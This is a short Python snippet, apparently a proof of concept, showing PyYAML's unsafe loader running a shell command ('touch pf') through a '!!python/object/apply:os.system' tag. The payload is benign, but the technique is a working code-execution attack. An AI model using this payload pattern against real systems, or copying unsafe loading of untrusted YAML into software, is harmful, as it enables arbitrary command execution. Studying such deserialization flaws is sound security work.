import yaml
class L(yaml.UnsafeLoader): pass
yaml.load("!!python/object/apply:os.system ['touch pf']", L)
